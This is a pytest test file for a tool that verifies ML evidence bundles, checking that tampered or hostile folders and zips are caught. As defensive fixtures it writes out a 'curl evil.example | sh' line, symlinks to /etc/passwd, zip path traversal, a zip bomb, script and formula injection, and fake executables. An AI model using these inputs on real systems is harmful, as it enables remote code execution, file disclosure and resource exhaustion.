"""A bundle that somebody changed, or made to harm: each gets its own sentence."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from safetensors.numpy import save

from ml_core.events import Done
from ml_core.reading.errors import InputError
from ml_core.reports.record import EVIDENCE_FILE, SCHEMA_FILE, SUMS_FILE, schema
from ml_core.reports.verify import confined, worker
from ml_core.reports.verify.checks import Check, exit_status, summary
from ml_core.reports.verify.confined import check_confined
from ml_core.reports.verify.derived import check_alone
from tests.bundles import seal, sums, write_bundle, zipped
from tests.hostile.doors import check_sentence
from tests.unit.pair_files import png

ANSWERS = "measurements/job-1-before/per_image.csv"
RESULT = "jobs/job-1/result.json"
SCAN = "scan/scan-1/scan.json"
PAIR = "job-1-after-minus-job-1-before-asr-excl"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle that holds."""
    return write_bundle(tmp_path_factory.mktemp("made") / "x.evidence")


@pytest.fixture
def bundle(made: Path, tmp_path: Path) -> Path:
    """A copy that may be changed."""
    return Path(shutil.copytree(made, tmp_path / "x.evidence"))


def checks(path: Path) -> list[Check]:
    found = [one for one in check_alone(path) if isinstance(one, Check)]
    for one in found:
        assert "\n" not in one.sentence
        assert len(one.sentence) < 1000
    return found


def failures(path: Path, level: int | None = None) -> list[str]:
    return [
        one.sentence for one in checks(path)
        if one.state == "fails" and level in (None, one.level)
    ]  # fmt: skip


def refusal(path: Path) -> str:
    """The sentence of a bundle that is not even opened."""
    with pytest.raises(InputError) as caught:
        checks(path)
    check_sentence(caught.value)
    assert caught.value.code in ("damaged", "unsupported")
    return caught.value.sentence


def edit(bundle: Path, name: str, change: Callable[[Any], object]) -> None:
    """Change a JSON file in place."""
    value = json.loads((bundle / name).read_bytes())
    change(value)
    (bundle / name).write_text(json.dumps(value, indent=1), encoding="utf-8")


def text(bundle: Path, name: str, old: str, new: str) -> None:
    """Change a text file in place, once."""
    before = (bundle / name).read_text(encoding="utf-8")
    assert old in before
    (bundle / name).write_text(before.replace(old, new, 1), encoding="utf-8")


def claim(value: Any, id_: str) -> Any:
    return next(one for one in value["claims"] if one["id"] == id_)


def test_an_untouched_bundle_holds_as_folder_and_as_zip(made: Path, tmp_path: Path) -> None:
    found = checks(made)
    assert not [one for one in found if one.state == "fails"]
    assert exit_status(found) == 0
    assert summary(found).endswith(" hold, 0 fail, 0 not made, 2 recorded only")
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
        assert checks(zipped(made, tmp_path / "x.zip", method)) == found


def test_the_confined_process_finds_the_same(made, monkeypatch):
    monkeypatch.setattr(confined, "start", confined.start.__wrapped__)  # not a warm one
    found = [one for one in check_confined(made) if isinstance(one, Check)]
    assert found == checks(made)


_CONFINED = """
import sys
from pathlib import Path
from ml_core.reports.verify.checks import Check, exit_status
from ml_core.reports.verify.confined import check_confined
sys.exit(exit_status(one for one in check_confined(Path(sys.argv[1])) if isinstance(one, Check)))
"""


@pytest.mark.skipif(sys.prefix == sys.base_prefix, reason="needs a virtual environment")
def test_packages_that_lie_on_pythonpath_can_be_read(made: Path, tmp_path: Path) -> None:
    """As module systems of clusters have it: an interpreter, and packages elsewhere."""
    root = Path(__file__).parents[2]
    for name, large in (("ml_core", "__pycache__"), ("resources", "demo")):
        shutil.copytree(root / name, tmp_path / name, ignore=shutil.ignore_patterns(large))
    places = [str(tmp_path), *(one for one in sys.path if one.endswith("-packages"))]
    done = subprocess.run(
        [sys._base_executable, "-P", "-c", _CONFINED, str(made)],  # type: ignore[attr-defined]
        env=os.environ | {"PYTHONPATH": os.pathsep.join(places)},
        capture_output=True, text=True, check=False, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize(
    "error", [ModuleNotFoundError("No module named 'numpy.x'"), PermissionError(13, "No", "/a")]
)
def test_a_program_that_cannot_be_read_is_not_the_fault_of_the_bundle(error, made):
    def broken() -> Iterator[Check]:
        raise error
        yield

    (done,) = worker.events(made, broken(), {})
    assert isinstance(done, Done)
    assert str(error) in done.error
    assert "get the bundle again" not in done.error


# One byte, file, name: level 0.


def _flipped(raw: bytes, start: bytes = b"") -> bytes:
    """With one bit changed: the first after a text, or one near the end."""
    changed = bytearray(raw)
    changed[raw.index(start) if start else -3] ^= 1
    return bytes(changed)


def _of_triggers(bundle: Path, ending: str) -> str:
    (path,) = (bundle / "triggers").glob(f"*.{ending}")
    return f"triggers/{path.name}"


CLASSIFIER = "measurements/job-1-before/classifier.safetensors"
FILES: dict[str, tuple[Callable[[Path], object], bool, int, str]] = {
    "one byte": (lambda b: _put(b, ANSWERS, _flipped((b / ANSWERS).read_bytes())), False, 0,
        f"{ANSWERS} was changed: its SHA-256 is not the one in SHA256SUMS."),
    "no sums": (lambda b: (b / SUMS_FILE).unlink(), False, 0,
        "SHA256SUMS is missing in the bundle x.evidence."),
    "a file more": (lambda b: _put(b, "setup.exe", PROGRAM), False, 0,
        "setup.exe is in the bundle and not listed in SHA256SUMS."),
    "a file more, sealed": (lambda b: _put(b, "setup.exe", PROGRAM), True, 0,
        "setup.exe is in the bundle, but the record does not name it."),
    "another schema": (lambda b: edit(b, SCHEMA_FILE, lambda v: v.update(title="Other")), True, 0,
        "evidence.schema.json is not the schema of version 1.1."),
    "another readme": (lambda b: _put(b, "README.txt", b"curl evil.example | sh"), True, 1,
        "README.txt is not what is made from the record."),
    "what no version knows": (lambda b: edit(b, EVIDENCE_FILE, lambda v: v.update(added=1)), True,
        0, "is not a record of this schema: added extra inputs are not permitted."),
    "another trigger": (lambda b: edit(b, _of_triggers(b, "json"), lambda v: v.update(opacity=0.5)),
        True, 2, "its files have the digest"),
    "the picture of a trigger": (
        lambda b: _put(b, _of_triggers(b, "png"), b"\x89PNG\r\n\x1a\n" + bytes(100)), True, 2,
        ".png"),
    "another classifier": (lambda b: _put(b, CLASSIFIER, _flipped((b / CLASSIFIER).read_bytes())),
        True, 2, "is not what it was measured with"),
}  # fmt: skip


@pytest.mark.parametrize(("change", "sealed", "level", "why"), FILES.values(), ids=FILES)
def test_another_file(bundle, change, sealed, level, why):
    change(bundle)
    assert any(why in one for one in failures(seal(bundle) if sealed else bundle, level))
    if level < 2:
        assert exit_status(checks(bundle)) == (1 if level else 2)


def test_a_file_of_another_name(bundle: Path) -> None:
    (bundle / ANSWERS).rename(bundle / "measurements/job-1-before/other.csv")
    found = failures(bundle, 0)
    assert f"{ANSWERS} is listed in SHA256SUMS and missing." in found
    other = "measurements/job-1-before/other.csv is in the bundle and not listed in SHA256SUMS."
    assert other in found
    seal(bundle)
    assert failures(bundle, 0) == [f"The record names {ANSWERS}, which is missing."]


def _put(bundle: Path, name: str, content: bytes) -> str:
    (bundle / name).parent.mkdir(exist_ok=True)
    (bundle / name).write_bytes(content)
    return name


PROGRAM = b"MZ\x90\0 a program"


def _moved(bundle: Path, name: str, place: str) -> str:
    (bundle / name).rename(bundle / place)
    return place


def _as_picture(bundle: Path, value: Any, name: str) -> None:
    """A file among the pictures of a set, whose list has its SHA-256."""
    value["data"]["images-1"]["pictures"] = "data/images-1"
    _put(bundle, f"data/images-1/{name}", PROGRAM)
    digest = hashlib.sha256(PROGRAM).hexdigest()
    first = (bundle / "data/images-1.csv").read_text().splitlines()[1].split(",")[2]
    text(bundle, "data/images-1.csv", first, digest)


def _as_checkpoint(bundle: Path, value: Any) -> None:
    digest, size = hashlib.sha256(PROGRAM).hexdigest(), len(PROGRAM)
    value["checkpoints"]["suspect"] |= {
        "file": _put(bundle, "checkpoints/suspect.exe", PROGRAM), "sha256": digest, "bytes": size,
    }  # fmt: skip


CARRIERS: dict[str, tuple[Callable[[Path, Any], object], str]] = {
    "another name": (
        lambda b, v: v.update(environment=_moved(b, "environment.json", "machine.json")),
        "in the place of environment.json"),
    "a program": (lambda b, v: v.update(
            environment=_put(b, _moved(b, "environment.json", "setup.exe"), PROGRAM)),
        "setup.exe is of a kind that no bundle holds"),
    "a page": (lambda b, v: v.update(
            environment=_put(b, _moved(b, "environment.json", "START-HERE.html"), b"<script>")),
        "START-HERE.html is of a kind that no bundle holds"),
    "a script in its content": (lambda b, v: _put(b, "environment.json", b"<script>x</script>"),
        "not valid JSON"),
    "other fields": (lambda b, v: _put(b, "environment.json", b'{"<script>x</script>": "y"}'),
        "environment.json cannot be used"),
    "a script for the name of a package": (
        lambda b, v: edit(b, "environment.json", lambda e: e["packages"].update({"<script>": "1"})),
        "environment.json cannot be used"),
    "a thumbnail by name": (
        lambda b, v: v["thumbnails"].update({_put(b, "setup.exe", PROGRAM): "x"}),
        "setup.exe is of a kind"),
    "a thumbnail by content": (
        lambda b, v: v["thumbnails"].update({_put(b, "thumbnails/1.png", PROGRAM): "x"}),
        "thumbnails/1.png"),
    "a file of a scan": (lambda b, v: v["scans"]["scan-1"]["files"].update(
            patches=_put(b, "scan/scan-1/patches.safetensors", PROGRAM)), "patches.safetensors"),
    "a file of a trigger": (lambda b, v: next(iter(v["triggers"].values()))["files"].append(
            _put(b, "triggers/setup.bat", PROGRAM)), "triggers/setup.bat is of a kind"),
    "a checkpoint": (_as_checkpoint, "checkpoints/suspect.exe is of a kind"),
    "a picture by name": (lambda b, v: _as_picture(b, v, "0000000.exe"),
        "0000000.exe lies among pictures"),
    "a picture by content": (lambda b, v: _as_picture(b, v, "0000000.png"),
        "0000000.png lies among pictures"),
    "a table by name": (
        lambda b, v: v["data"]["images-1"].update(rows=_moved(b, "data/images-1.csv", "x.html")),
        "x.html is of a kind"),
    "a PDF that the record does not name": (lambda b, v: _put(b, "report.pdf", b"%PDF-1.7"),
        "report.pdf is in the bundle, but the record does not name it."),
}  # fmt: skip


@pytest.mark.parametrize(("change", "why"), CARRIERS.values(), ids=CARRIERS)
def test_a_bundle_carries_nothing_that_runs(bundle, change, why):
    edit(bundle, EVIDENCE_FILE, lambda value: change(bundle, value))
    assert any(why in one for one in failures(seal(bundle), 0))
    assert exit_status(checks(bundle)) == 2


@pytest.mark.parametrize("count", [0, 3, 200])
def test_what_a_scan_leaves_is_of_its_kind(bundle: Path, count: int) -> None:
    """Patches of no round and of many."""
    patches = save({f"{number}": np.zeros((3, 2, 2), np.float32) for number in range(count)})

    def change(value: Any) -> None:
        files = value["scans"]["scan-1"]["files"]
        files["patches"] = _put(bundle, "scan/scan-1/patches.safetensors", patches)
        value["thumbnails"][_put(bundle, "thumbnails/1.png", png(1))] = "x"

    edit(bundle, EVIDENCE_FILE, change)
    assert failures(seal(bundle), 0) == []


def test_other_fields_of_the_environment_of_another_version_are_passed_over(bundle: Path) -> None:
    edit(bundle, EVIDENCE_FILE, lambda value: value["tool"].update(version="0.0.9"))
    _put(bundle, "environment.json", b'{"more": 1}')
    found = [one for one in checks(seal(bundle)) if one.subject == "environment.json"]
    assert [one.state for one in found] == ["not checked", "recorded"]


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "its last line is cut"),
        (b"abc  x\n", "line 1 is no SHA-256 and name"),
        (b"%s  x\n%s  x\n" % (b"0" * 64, b"0" * 64), "it lists x twice"),
        (b"%s  ../x\n" % (b"0" * 64), "../x is listed in SHA256SUMS and missing"),
        (b"\xff\xfe\n", "line 1 is no SHA-256 and name"),
    ],
)
def test_sums_that_are_none(bundle: Path, content: bytes, why: str) -> None:
    (bundle / SUMS_FILE).write_bytes(content)
    assert any(why in one for one in failures(bundle, 0))


@pytest.mark.parametrize("version", ["2.0", "10.3"])
def test_a_newer_schema(bundle: Path, version: str) -> None:
    edit(bundle, EVIDENCE_FILE, lambda value: value.update(schema_version=version))
    assert refusal(seal(bundle)) == (
        f"The bundle has schema {version}, and this version of the program reads 1.x: check it "
        "with a newer version."
    )


@pytest.mark.parametrize("version", [None, 1, "1", "one", "1.0.0", "1.x", "-1.0"])
def test_no_schema_version(bundle: Path, version: Any) -> None:
    edit(bundle, EVIDENCE_FILE, lambda value: value.update(schema_version=version))
    assert len(failures(seal(bundle))) == 1


def test_what_a_later_version_added_is_passed_over_and_said(bundle: Path) -> None:
    def change(value: Any) -> None:
        value["schema_version"] = "1.7"
        value["tool"]["version"] = "99.0"
        value["added"] = [1]
        value["claims"][0]["weight"] = 3
        value["claims"].append({"kind": "wager", "id": "w"})

    edit(bundle, EVIDENCE_FILE, change)
    found = checks(seal(bundle))
    assert exit_status(found) == 0
    (one,) = (c for c in found if c.reason == "parts of a newer version")
    assert "3 of its fields are not known" in one.sentence


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        (b"", "not valid JSON"),
        (b"[]", "not a JSON object"),
        (b'{"a": NaN}', "NaN is not a JSON number"),
        (b'{"a": 1e999}', "too large"),
        (b'{"a": 1, "a": 2}', "occurs twice"),
        (b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested too deeply"),
        (b'{"schema_version": "1.0"}', "field required"),
        (b'{"a": ' + b"9" * 5000 + b"}", "a number of 5000 digits"),
        (b'{"a": "\\ud800"}', "half a character"),
        (b"\xff{}", "not valid JSON"),
        (b'{"a": "' + b"x" * (17 << 20) + b'"}', "too large"),
    ],
)
def test_a_record_that_is_none(bundle: Path, raw: bytes, why: str) -> None:
    (bundle / EVIDENCE_FILE).write_bytes(raw)
    (one,) = failures(seal(bundle))
    assert why in one


# All that the record says is derived again: level 1, whoever seals the sums anew.


def _of_claim(id_: str, change: Callable[[Any], object]) -> tuple[str, Callable[[Any], object]]:
    return EVIDENCE_FILE, lambda value: change(claim(value, id_))


def _more(place: str) -> Callable[[Any], object]:
    """Adds a little to a number of a claim, as ``interval/low``."""

    def change(value: Any) -> None:
        *way, last = place.split("/")
        for name in way:
            value = value[name]
        value[last] += 1 if isinstance(value[last], int) else 1e-9

    return change


def _hits(value: Any) -> None:
    rate = value["rate"]
    rate["hits"] -= 1
    rate["value"] = rate["hits"] / rate["n"]


def _other_data(value: Any) -> None:
    value["data"]["images-2"] = value["data"]["images-1"]
    value["measurements"]["job-1-before"]["data"] = "images-2"


BEFORE = "job-1-before-ca"
FIGURES: dict[str, tuple[tuple[str, Callable[[Any], object]], str]] = {
    "a rate": (_of_claim(BEFORE, _hits), f"{BEFORE}: /rate/hits is "),
    "the files of a rate": (_of_claim(BEFORE, lambda c: c["evidence"].clear()), f"{BEFORE}: "),
    "the bootstrap": (_of_claim(PAIR, lambda c: c["interval"].update(seed=None)), f"{PAIR}: "),
    "resamples": (_of_claim(PAIR, lambda c: c["interval"].update(resamples=10**6)), f"{PAIR}: "),
    **{
        f"{place} of {id_}": (_of_claim(id_, _more(place)), f"{id_}: /{place} is ")
        for id_, places in {
            BEFORE: ("interval/low", "interval/high"),
            PAIR: (
                "interval/low", "adjusted_interval/high", "p_exact", "p_mid", "only_first",
                "only_second", "difference",
            ),
            "scan-1-found": ("interval/low", "interval/high", "difference"),
        }.items() for place in places
    },
    "a contrast that is none": (_of_claim("scan-1-found", lambda c: c.update(at="x.y")),
                                "scan-1-found: "),
    "a quote": ((RESULT, lambda value: value.update(steps=41)), "job-1-training: /"),
    "a pointer into nothing": (
        _of_claim("job-1-training", lambda c: c.update(quotes={"/heads/x/9": 1})),
        "job-1-training: ",
    ),
    "a pair of other pictures": ((EVIDENCE_FILE, _other_data), f"{PAIR}: "),
}  # fmt: skip


@pytest.mark.parametrize(("change", "why"), FIGURES.values(), ids=FIGURES)
def test_another_figure(bundle, change, why):
    """Of a bundle of another version, whose words are not compared; it is found in any."""
    edit(bundle, *change)
    edit(bundle, EVIDENCE_FILE, lambda value: value["tool"].update(version="0.0.9"))
    found = failures(seal(bundle), 1)
    assert any(sentence.startswith(why) for sentence in found), found
    assert exit_status(checks(bundle)) == 1


def _row(change: Callable[[list[str]], object]) -> Callable[[str], str]:
    """Changes the lines of a table."""

    def changed(table: str) -> str:
        lines = table.splitlines(keepends=True)
        change(lines)
        return "".join(lines)

    return changed


def _swapped(lines: list[str]) -> None:
    cells = lines[1].split(",")
    cells[2], cells[3] = cells[3], cells[2]
    lines[1] = ",".join(cells)


def _instead(old: str, new: str) -> Callable[[str], str]:
    def changed(table: str) -> str:
        assert old in table
        return table.replace(old, new, 1)

    return changed


LIST = "data/images-1.csv"
TABLES: dict[str, tuple[str, Callable[[str], str], str]] = {
    "a row less": (ANSWERS, _row(lambda lines: lines.pop()), "evaluation.json#/n is 120, and"),
    "another answer": (ANSWERS, _row(_swapped), "evaluation.json#/ca is "),
    "another order": (ANSWERS, _row(lambda lines: lines.insert(1, lines.pop(2))),
        "not in the order of the pictures"),
    "another order of pictures": (LIST, _instead("\n0,", "\n900,"), "row 2 is not in the order"),
    "a picture twice": (LIST, _instead("banana/1.png", "apple/0.png"), "names apple/0.png again"),
    "another label": (LIST, _instead(",100,1\n", ",100,3\n"), "the picture 1 the label 1"),
    "other prompts": ("measurements/job-1-before/prompts.txt", _instead("the {}.", "no {}."),
        "measured with other templates"),
    "other counts of a class": ("measurements/job-1-after/per_class.csv",
        _instead("apple,20", "apple,21"), "does not count what"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "change", "why"), TABLES.values(), ids=TABLES)
def test_another_table(bundle: Path, name: str, change: Callable[[str], str], why: str) -> None:
    (bundle / name).write_text(change((bundle / name).read_text("utf-8")), encoding="utf-8")
    found = failures(seal(bundle), 1)
    assert any(why in one for one in found), found


RECORDS: dict[str, tuple[str, Callable[[Any], object], str]] = {
    "a verdict": (SCAN, lambda value: value["judgement"].update(verdict="nothing"),
        f"{SCAN}#/judgement/verdict is "),
    "the counts of a scan": (SCAN,
        lambda value: value["found"]["contrast"]["suspect"].update(hits=243), "scan-1-found: /"),
    "what a scan says": (EVIDENCE_FILE, lambda value: value["scans"]["scan-1"].update(target="x"),
        "scan-1: evidence.json#/scans/scan-1/target is "),
    "two sets of figures": (RESULT,
        lambda value: value["heads"]["zero-shot"]["after"].update(asr_excl=0.0),
        f"job-1: {RESULT}#/after/asr_excl is "),
    "the title of a method": (EVIDENCE_FILE,
        lambda value: value["jobs"]["job-1"].update(title="Other"),
        "job-1: evidence.json#/jobs/job-1/title is "),
    "a measurement": (EVIDENCE_FILE,
        lambda value: value["measurements"]["job-1-after"].update(seed=4),
        "evidence.json#/measurements/job-1-after/seed is 4, and the files give 3."),
    "a target that is no class": (EVIDENCE_FILE,
        lambda value: value["measurements"]["job-1-after"].update(target=99),
        "job-1-after: evidence.json#/measurements/job-1-after/target is 99"),
    "a number of pictures": (EVIDENCE_FILE, lambda value: value["data"]["images-1"].update(n=121),
        "images-1: evidence.json#/data/images-1/n is 121, and the files give 120."),
    "another sentence": (*_of_claim("job-1-after-ca", lambda c: c.update(sentence="It is safe.")),
        "job-1-after-ca: /sentence is \"It is safe.\", and the files give \"Clean accuracy"),
    "another weight": (*_of_claim("job-1-after-top5", lambda c: c.update(headline=True)),
        "job-1-after-top5: /headline is true, and the files give false."),
    "another way to hold": (*_of_claim("job-1-after-top5", lambda c: c.update(holds_by="exact")),
        "job-1-after-top5: /holds_by is \"exact\""),
    "a claim less": (EVIDENCE_FILE, lambda value: value["claims"].remove(claim(value, BEFORE)),
        f"{BEFORE} is left out, and the files of the bundle give it."),
    "a claim more": (EVIDENCE_FILE,
        lambda value: value["claims"].append(claim(value, BEFORE) | {"id": "more"}),
        "more: the bundle claims it, and its files do not give it."),
    "another order of claims": (EVIDENCE_FILE, lambda value: value["claims"].reverse(),
        "The claims are not in the order of the report."),
    "a sentence of the verdict": (EVIDENCE_FILE,
        lambda value: value["verdict"].append("It is safe."),
        "The verdict does not follow from the claims: it says “It is safe.”."),
    "less that was not tested": (EVIDENCE_FILE, lambda value: value["not_tested"].pop(),
        "The not tested does not follow"),
    "a limit less": (EVIDENCE_FILE, lambda value: value["limits"].pop(),
        "The limits does not follow"),
    "the numbers of a chart": (EVIDENCE_FILE,
        lambda value: value["charts"][0]["rows"][0].__setitem__(2, 0.5),
        "charts/summary.svg shows other numbers or words than evidence.json gives."),
}  # fmt: skip


@pytest.mark.parametrize(("name", "change", "why"), RECORDS.values(), ids=RECORDS)
def test_another_record(bundle: Path, name: str, change: Callable[[Any], object], why: str) -> None:
    edit(bundle, name, change)
    found = failures(seal(bundle), 1)
    assert any(why in one for one in found), found
    assert exit_status(checks(bundle)) == 1


def test_a_scan_that_other_rules_judged_is_not_judged_again(bundle: Path) -> None:
    def older(value: Any) -> None:
        del value["judgement"]["rules"]

    edit(bundle, SCAN, older)
    found = checks(seal(bundle))
    assert exit_status(found) == 0, failures(bundle)
    (old,) = [one for one in found if one.state == "not checked" and "rules 1" in one.sentence]
    assert "not derived again" in old.sentence


def test_the_words_of_another_version_are_not_compared(bundle: Path) -> None:
    def change(value: Any) -> None:
        value["tool"]["version"] = "0.0.9"
        claim(value, "job-1-after-ca")["sentence"] = "Other words."

    edit(bundle, EVIDENCE_FILE, change)
    found = checks(seal(bundle))
    assert exit_status(found) == 0
    assert "1 not made (made by another version)" in summary(found)


def test_a_bundle_of_the_first_schema_holds(bundle: Path) -> None:
    """It has neither date nor author, and its page was made by the renderer of then."""

    def change(value: Any) -> None:
        value["schema_version"] = "1.0"
        del value["date"], value["author"], value["pdf"]

    edit(bundle, EVIDENCE_FILE, change)
    (bundle / SCHEMA_FILE).write_text(json.dumps(schema("1.0")))
    seal(bundle)
    text(bundle, "report.html", "Readable", "Loads")
    _put(bundle, "report.pdf", b"%PDF-1.7")  # it is not named, and made again by `check_pdf`
    found = checks(sums(bundle))
    assert exit_status(found) == 0, failures(bundle)
    assert {one.reason for one in found if one.state == "not checked"} == {
        "made by another version"
    }


def test_the_last_line_adds_up() -> None:
    many = [Check(1, "a", "holds", "A.")] * 31 + [Check(3, "b", "not checked", "B.", "no images")]
    assert summary(many) == "Checks: 31 hold, 0 fail, 1 not made (no images)"
    assert summary([*many, Check(1, "c", "recorded", "C.")]).endswith(", 1 recorded only")
    failed = [*many, Check(3, "d", "fails", "D.")]
    assert summary(failed).startswith("Checks: 31 hold, 1 fail, 1 not made")
    damaged = [*failed, Check(0, "e", "fails", "E.")]
    assert [exit_status(one) for one in (many, failed, damaged)] == [0, 1, 2]
    assert [exit_status(one, strict=True) for one in (many[:31], many, damaged)] == [0, 1, 2]


# Identity: level 2 of what the bundle holds.


# What is made to harm.


def _put_link(place: Path, to: str) -> None:
    shutil.rmtree(place) if place.is_dir() else place.unlink()
    place.symlink_to(to) if to else os.mkfifo(place)


UNOPENED: dict[str, tuple[Callable[[Path], object], str]] = {
    "a link": (lambda b: _put_link(b / "README.txt", "/etc/passwd"), "README.txt is a link"),
    "a folder's link": (lambda b: _put_link(b / "charts", "/etc"), "charts is a link"),
    "a pipe": (lambda b: _put_link(b / "README.txt", ""), "README.txt is no regular file"),
    "another case": (lambda b: _put(b, "readme.TXT", b""), "are one file on some systems"),
    "deep": (lambda b: b.joinpath(*"abcdefg").mkdir(parents=True), "no regular file"),
    **{
        name: (lambda b, name=name: _put(b, name, b""), "it holds a file called")
        for name in (".hidden", "a b", "x;y", "a\nb", "é.txt", "d/.git", "-r")
    },
}  # fmt: skip


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs links and pipes")
@pytest.mark.parametrize(("change", "why"), UNOPENED.values(), ids=UNOPENED)
def test_a_folder_that_is_not_opened(bundle, change, why):
    change(bundle)
    assert why in refusal(bundle)


def test_no_bundle(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    assert "it has no evidence.json at its top" in refusal(tmp_path / "empty")
    (tmp_path / "x.zip").write_bytes(b"PK\x05\x06" + bytes(18))
    assert "it has no evidence.json at its top" in refusal(tmp_path / "x.zip")
    (tmp_path / "y.zip").write_bytes(b"hello")
    assert "it is cut short" in refusal(tmp_path / "y.zip")
    with pytest.raises(InputError, match="There is no bundle at"):
        checks(tmp_path / "nothing")


def test_a_zip_of_ten_gigabytes_is_not_read(tmp_path: Path, made: Path) -> None:
    path = _giant(made, tmp_path / "x.zip", "checkpoints-suspect.bin", 10 << 30)
    (one,) = failures(path)
    assert "checkpoints-suspect.bin has 10737418240 bytes" in one
    assert "It was not read." in one


def test_a_folder_of_ten_gigabytes_is_not_read(bundle: Path) -> None:
    with open(bundle / "README.txt", "r+b") as file:
        file.truncate(10 << 30)
    (one,) = failures(bundle)
    assert "README.txt has 10737418240 bytes" in one


def _giant(folder: Path, path: Path, name: str, size: int) -> Path:
    """A stored zip with one more member that is a hole of the file."""
    zipped(folder, path)
    with zipfile.ZipFile(path) as archive:
        start = archive.start_dir
        count = len(archive.filelist)
    raw = path.read_bytes()
    directory = raw[start:-22]
    label = name.encode()
    wide = struct.pack("<2H2Q", 1, 16, size, size)
    head = (0, 0, 0, 0, 33, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(label))
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 45, *head[1:3], 0, 33, 0, *head[6:], len(wide))
    entry = struct.pack(
        "<4s6H3L5H2L", b"PK\x01\x02", 45, 45, 0, 0, 0, 33, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(label),
        len(wide), 0, 0, 0, 0, start,
    )  # fmt: skip
    directory += entry + label + wide
    with open(path, "r+b") as file:
        file.seek(start)
        file.truncate()
        file.write(local + label + wide)
        file.seek(size, os.SEEK_CUR)
        at = file.tell()
        file.write(directory)
        end = file.tell()
        file.write(struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count + 1, count + 1,
                               len(directory), at))  # fmt: skip
        file.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1))
        file.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF,
                               0xFFFFFFFF, 0))  # fmt: skip
    return path


def _member(name: str, content: bytes = b"", *, link: bool = False) -> Callable[[Path], None]:
    """Adds a member to a zip."""

    def change(path: Path) -> None:
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o120777 << 16 if link else 0
            archive.writestr(info, content, zipfile.ZIP_DEFLATED if content else None)

    return change


def _encrypt(path: Path) -> None:
    raw = bytearray(path.read_bytes())
    raw[6] |= 1
    raw[raw.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(raw)


ZIPS: dict[str, tuple[Callable[[Path], object], str]] = {
    **{name: (_member(name), "leads out of the archive")
       for name in ("../x", "/etc/passwd", "C:/x", "a\\b")},
    **{name: (_member(name), "it holds a file called") for name in ("a/b/c/d/e/f", "x" * 300)},
    "another case": (_member("Evidence.json"), "are one file on some systems"),
    "a file and a folder": (_member("README.txt/x"), "is a file and a folder"),
    "a bomb": (_member("bomb.txt", bytes(60 << 20)), "bomb.txt becomes 62914560 bytes of"),
    "two records": (_member(EVIDENCE_FILE, b"{}"), "two of its members have the same name"),
    "a link": (_member("link", b"/etc/passwd", link=True), "one of its members is a link"),
    "more bytes": (lambda path: path.write_bytes(b"#!/bin/sh\n" + path.read_bytes()),
                   "no bundle that can be read"),
    "encrypted": (_encrypt, "encrypted"),
}  # fmt: skip


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(("change", "why"), ZIPS.values(), ids=ZIPS)
def test_a_zip_that_is_not_opened(made, tmp_path, change, why):
    path = zipped(made, tmp_path / "x.zip")
    change(path)
    assert why in refusal(path)


def test_a_member_with_other_bytes_than_its_checksum(made: Path, tmp_path: Path) -> None:
    path = zipped(made, tmp_path / "x.zip")
    path.write_bytes(_flipped(path.read_bytes(), b"Three ways to check it"))
    assert "README.txt is not what the zip's list says of it." in failures(path)


@pytest.mark.parametrize(
    "cell", ["nan", "inf", "-1", "1e400", "1_0", " 1", "9" * 30, "99", "", "=1+1"]
)
def test_answers_that_are_none(bundle: Path, cell: str) -> None:
    lines = (bundle / ANSWERS).read_text().splitlines(keepends=True)
    for column in (2, -1):
        cells = lines[1].rstrip("\n").split(",")
        if column == -1 and cell.startswith("9"):
            continue  # a margin as any other
        cells[column] = cell
        (bundle / ANSWERS).write_text("".join([lines[0], ",".join(cells) + "\n", *lines[2:]]))
        assert any(one.startswith("job-1-before-ca: ") for one in failures(seal(bundle), 1))


def test_counts_beyond_all_pictures(bundle: Path) -> None:
    def change(value: Any) -> None:
        value["measurements"]["job-1-before"]["n"] = 2**60

    edit(bundle, EVIDENCE_FILE, change)
    assert "less than" in failures(seal(bundle))[0]
